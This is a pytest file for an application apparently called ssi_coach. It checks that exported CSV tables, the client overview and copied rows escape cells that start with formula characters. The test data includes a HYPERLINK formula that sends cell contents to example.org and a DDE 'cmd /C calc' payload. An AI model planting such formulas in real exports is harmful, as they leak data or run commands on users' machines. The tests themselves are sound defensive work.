"""What others wrote runs nowhere: a spreadsheet that opens our tables, or gets what was copied, sees text."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from PySide6.QtGui import QGuiApplication
from pytestqt.qtbot import QtBot

from ssi_coach.domain.interchange import Document
from ssi_coach.domain.network import Connection
from ssi_coach.domain.records import Activity
from ssi_coach.reports.tables import harmless, table, to_tables
from ssi_coach.store.workspace import Workspace
from ssi_coach.ui.desk import Desk
from ssi_coach.ui.pages.network import NetworkPage
from tests.cli.conftest import Line, line
from tests.ui.conftest import clock, coach, desk
from tests.ui.networks import bring

__all__ = ["clock", "coach", "desk", "line"]

CALL = '=HYPERLINK("http://example.org/?"&A1,"x")'
FORMULAS = [
    CALL,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "   +1",
    "\u00a0=1",
    "\u3000@x",
    "\ufeff=1",
    "\u200b=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
]
PLAIN = ["", "a=b", "Tom & Co", "1 - 2", "mail@example.org", "5", "'quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert harmless(text) == f"'{text}"
    (row,) = csv.DictReader(io.StringIO(table(["a"], [{"a": text}]).decode(), newline=""))
    assert row["a"] == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers_and_lists_are_texts() -> None:
    (row,) = csv.DictReader(io.StringIO(table(["a", "b"], [{"a": -5, "b": ["=1", "x"]}]).decode(), newline=""))
    assert row == {"a": "-5", "b": "'=1 x"}


def test_every_table_of_an_export_is_harmless() -> None:
    on = date(2026, 11, 20)
    document = Document(
        activities=(Activity("a", "comment", on, 1, CALL, with_whom=CALL),),
        connections=(Connection("=slug", CALL, CALL, CALL),),
    )
    found = 0
    for name, content in to_tables(document).items():
        for row in csv.reader(io.StringIO(content.decode(), newline="")):
            for cell in row:
                assert not cell.startswith("="), name
                found += cell == f"'{CALL}"
    assert found == 5


def test_the_overview_of_clients_is_harmless(line: Line, tmp_path: Path) -> None:
    for name in ("=1+1", "＋x", "@b"):
        Workspace.create(tmp_path / f"{name}.ssicoach").close()
    rows = list(csv.DictReader(io.StringIO(line.bare("overview", str(tmp_path), "--csv").out)))
    assert {row["name"] for row in rows} == {"'=1+1", "'＋x", "'@b"}
    assert all(row["file"].startswith("'") for row in rows)


def test_copied_people_paste_as_text_one_row_each(qtbot: QtBot, desk: Desk) -> None:
    page = NetworkPage(desk)
    qtbot.addWidget(page)
    desk.published.connect(page.draw)
    page.draw(desk.standing)
    bring(desk.coach, (Connection("p-1", CALL, "\t=1\n=2", "＝1"),))
    qtbot.waitUntil(lambda: page.people.model.rowCount() == 1)
    page.people.table.selectAll()
    page.people.copy.click()
    titles, line = QGuiApplication.clipboard().text().split("\n")
    assert len(titles.split("\t")) == 4
    cells = line.split("\t")
    assert cells[:3] == [f"'{CALL}", "'＝1", "'=1 =2"]
    assert len(cells) == 4
